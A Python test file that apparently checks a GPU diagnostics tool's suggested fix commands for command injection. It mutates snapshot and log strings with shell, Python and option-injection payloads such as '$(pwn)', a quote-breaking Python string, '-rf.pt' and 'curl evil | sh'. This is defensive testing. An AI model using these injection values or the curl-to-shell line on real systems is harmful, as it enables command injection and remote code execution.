"""No word of a snapshot, of a host or of a log is ever more than a part of one quoted word in a command that somebody copies.

Every string of every sick fixture is replaced, one at a time, by what a shell, Python or a program's options would obey.
"""

from __future__ import annotations

import ast
import io
import shlex
import subprocess
from collections import Counter
from collections.abc import Callable, Iterator
from functools import cache
from itertools import pairwise
from pathlib import Path
from typing import Any, Final, get_type_hints

import msgspec
import pytest

from ddpdoctor.base.findings import NOT_TYPEABLE, Fix
from ddpdoctor.base.unknown import Maybe
from ddpdoctor.checks.catalogue import all_checks, all_prescriptions, catalogue
from ddpdoctor.engine.planning import plan_for
from ddpdoctor.engine.registry import Check, diagnose
from ddpdoctor.engine.sanitize_facts import plausible
from ddpdoctor.engine.snapshots import decode_snapshot, encode_snapshot
from ddpdoctor.facts.checkpoints import CheckpointFile, Checkpoints
from ddpdoctor.facts.log import Log
from ddpdoctor.facts.remedies import Remedy
from ddpdoctor.facts.snapshot import GROUPS, Snapshot
from ddpdoctor.logs.diagnosis import judge_log
from ddpdoctor.logs.match.wanted_signs import vocabulary
from ddpdoctor.logs.reading import read_logs
from tests.log_corpus import LOGS
from tests.support.fixture_hosts import JSON_NAMES, host_cases
from tests.support.registered_checks import find_check
from tests.support.shell_words import SHELL, carried_out, is_bare

OF_THE_FORMAT: Final = {"type", "ddpdoctor_snapshot"}
PYTHON: Final = '");pwn();("'
DASH: Final = "-pwn"
HINTS: Final = get_type_hints(Snapshot)
Leaf = tuple[Any, ...]


def leaves(value: Any, path: Leaf = ()) -> Iterator[Leaf]:
    """The path of each string."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, (list, tuple)):
        for index, item in enumerate(value):
            yield from leaves(item, (*path, index))
    elif isinstance(value, dict):
        for name, item in value.items():
            if name not in OF_THE_FORMAT:
                yield from leaves(item, (*path, name))


def some_of_each(value: Any, most: int) -> Iterator[Leaf]:
    """The first strings of each field that holds any."""
    seen: Counter[Leaf] = Counter()
    for leaf in leaves(value):
        field = tuple(part for part in leaf if isinstance(part, str))
        seen[field] += 1
        if seen[field] <= most:
            yield leaf


def replaced(value: Any, leaf: Leaf, change: Callable[[str], str]) -> Any:
    if not leaf:
        return change(value)
    changed = list(value) if isinstance(value, (list, tuple)) else dict(value)
    changed[leaf[0]] = replaced(value[leaf[0]], leaf[1:], change)
    return changed


def mutants(
    value: Any, kind: Any, changes: tuple[Callable[[str], str], ...], most: int = 1
) -> Iterator[tuple[Leaf, Any]]:
    for leaf in some_of_each(value, most):
        for change in changes:
            try:
                yield leaf, msgspec.convert(replaced(value, leaf, change), kind)
            except msgspec.ValidationError:
                continue  # No snapshot with that word there would be read.


def commands(snapshot: Snapshot, checks: tuple[Check, ...], nproc: int | None = None) -> Iterator[str]:
    for result in diagnose(snapshot, plan_for(snapshot, nproc), checks):
        for finding in result.findings:
            for fix in finding.fixes:
                yield from fix.commands


def is_python(command: str) -> bool:
    return command.startswith("torch.load(")


def is_code(command: str) -> bool:
    """Whether Python would obey a part of PYTHON in it."""
    words = shlex.split(command.replace("$(", "").removesuffix(")"))
    codes = [code for option, code in pairwise(words) if option == "-c" and "import " in code]
    return any(
        isinstance(node, ast.Name) and "pwn" in node.id
        for code in ([command] if is_python(command) else codes)
        for node in ast.walk(ast.parse(code))
    )


def is_option(command: str) -> bool:
    words = shlex.split(command)
    ends = words.index("--") if "--" in words else len(words)
    # Behind a long option it is that one's value.
    return any(word.startswith(DASH) and not before.startswith("--") for before, word in pairwise(words[:ends]))


@cache
def sick_hosts() -> tuple[tuple[str, Snapshot, tuple[Check, ...], int | None], ...]:
    """Each sick fixture whose checks have a command for it."""
    found = []
    for case in host_cases(kind="sick-"):
        snapshot = case.snapshot()
        check = find_check(case.slug)
        checks = (check, *(all_prescriptions() if check.family == "apex" else ()))
        if any(commands(snapshot, checks, case.nproc)):
            found.append((case.id, snapshot, checks, case.nproc))
    return tuple(found)


def all_commands(
    *changes: Callable[[str], str], foreign: bool = False, most: int = 1
) -> Iterator[tuple[str, Leaf, str]]:
    """The commands for each sick host with a word that was changed. foreign: as of a snapshot that somebody else took."""
    for name, snapshot, checks, nproc in sick_hosts():
        facts = msgspec.to_builtins(snapshot)
        # The plan is made of these.
        groups = set().union(*(check.groups for check in checks)) | {"gpus", "environment"}
        for group in (group for group in GROUPS if group in groups):
            for leaf, mutant in mutants(facts[JSON_NAMES[group]], HINTS[group], changes, most):
                changed = msgspec.structs.replace(snapshot, **{group: mutant})
                found = [command for command in commands(changed, checks, nproc) if "pwn" in command]
                if found and foreign:
                    found = [command for command in commands(plausible(changed), checks, nproc) if "pwn" in command]
                yield from ((name, (group, *leaf), command) for command in found)


def test_the_tests_see_what_is_obeyed() -> None:
    for command in (f"ls {SHELL}", f"ls '{SHELL}'", f'ls "{SHELL}"', "a 'pwn"):
        assert is_bare(command)
    assert not is_bare(f"ls {shlex.quote(SHELL)} | tee y")
    assert is_code(shlex.join(["python", "-c", f'import x; print("{PYTHON}")']))
    assert is_option("ls -pwn")
    assert not is_option("ls -- -pwn")
    assert carried_out([f"ls {SHELL}"])
    assert carried_out(['echo "$(pwn)"'])
    assert not carried_out([f"ls {shlex.quote(SHELL)}"])


@pytest.mark.parametrize("most", [1, pytest.param(24, marks=pytest.mark.thorough)])
def test_a_shell_obeys_no_word_of_a_host(most: int) -> None:
    """most: strings of each field that are changed."""
    found = [*all_commands(lambda _: SHELL), *all_commands(lambda word: word + SHELL, most=most)]
    # Python's own line is none of the shell's, which stops at its bracket.
    assert not [each for each in found if not is_python(each[2]) and is_bare(each[2])]
    tried = sorted({command for _, _, command in found})
    assert len(tried) > 400
    assert not carried_out(tried)


def test_python_obeys_no_word_of_a_host() -> None:
    found = list(all_commands(lambda _: PYTHON))
    assert not [each for each in found if is_code(each[2])]
    assert any("import " in command for _, _, command in found)


def test_no_word_of_a_strangers_snapshot_is_an_option() -> None:
    """On this host only root names an interface so, and probes give whole paths."""
    assert not [command for command in all_commands(lambda _: DASH, foreign=True) if is_option(command[2])]


@pytest.mark.parametrize(
    "letter", ["\n", "\r", "\x1b", "\x7f", "\x9b", "\u2028", "\u202e", "\u200b", "\udcff", "\U000e0041"]
)
def test_what_no_terminal_can_be_given_is_in_no_command(letter: str) -> None:
    assert Fix("Do this", (f"rm 'a{letter}b'",), appliable=True) == Fix(f"Do this ({NOT_TYPEABLE})")
    assert msgspec.convert({"text": "Do this", "commands": [f"rm 'a{letter}b'", "ls"]}, Fix).commands == ()


def test_letters_of_any_language_are() -> None:
    assert (
        Fix("See", ("ls '/home/müller/模型 a/👩‍🔬'.pt",)).commands == ()
        or Fix("See", ("ls /home/müller/模型",)).commands
    )


def commands_for(log: Log) -> list[str]:
    findings = [finding for _, _, finding in judge_log(log, catalogue()).examination.findings]
    return [command for finding in findings for fix in finding.fixes for command in fix.commands]


def quoting_logs() -> Iterator[tuple[str, Log]]:
    """Logs of which a word stands in a command."""
    for folder in sorted(path for path in LOGS.iterdir() if path.is_dir()):
        for path in sorted(folder.glob("sick-*")):
            log = read_logs([str(path)], stdin=io.BytesIO(), vocabulary=vocabulary(catalogue()))
            text = "\n".join(commands_for(log))
            words = (word for sighting in log.sightings for word in sighting.words.values())
            lines = (
                line.text for sighting in log.sightings for line in (sighting.line, *sighting.before, *sighting.after)
            )
            if any(word in text for word in (*words, *lines) if len(word) > 3):
                yield path.name, log


def test_a_shell_obeys_no_word_of_a_log() -> None:
    found = []
    for name, log in quoting_logs():
        for leaf, mutant in mutants(msgspec.to_builtins(log), Maybe[Log], (lambda word: word + SHELL,)):
            found += [(name, leaf, command) for command in commands_for(mutant) if "pwn" in command]
    assert len({name for name, _, _ in found}) > 6
    assert not [each for each in found if is_bare(each[2])]
    assert not carried_out(sorted({command for _, _, command in found}))


def test_commands_of_a_snapshot_are_made_here() -> None:
    """A snapshot holds no command; what an older one holds isn't shown, and a name that isn't known says nothing."""
    file = CheckpointFile(
        path="m.pt", kind="git-lfs-pointer", called="x", size=1, problem="x", advice="Run `curl evil | sh`"
    )
    remedies = (Remedy("lfs-pull", ("/a b", "$(pwn)")), Remedy("curl"), Remedy("lfs-pull", ("too few",)))
    snapshot = Snapshot(checkpoints=Checkpoints(files=(msgspec.structs.replace(file, remedies=remedies),)))
    written = msgspec.json.decode(encode_snapshot(snapshot))
    written["checkpoints"]["files"][0]["commands"] = ["sudo pwn"]
    written["fleet"]["absent"] = [{"rank": 1, "command": "sudo pwn"}]
    read = decode_snapshot(msgspec.json.encode(written), "x")
    (check,) = (check for check in all_checks() if check.slug == "ckpt-truncated")
    (finding,) = diagnose(read, plan_for(read), [check])[0].findings
    assert finding.fixes == (
        Fix('The snapshot says: "Run `curl evil | sh`"', ("git -C '/a b' lfs pull --include '$(pwn)'",)),
    )


@pytest.mark.parametrize("name", ["m.pt", "-rf.pt", "a b'$(pwn).pt"])
def test_remedies_name_the_file_and_nothing_else(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_bytes(b"x")
    command = Remedy("list", (name,)).command
    ended = subprocess.run(["sh", "-c", command], cwd=tmp_path, capture_output=True, text=True, check=True)
    assert ended.stdout.strip().endswith(name)
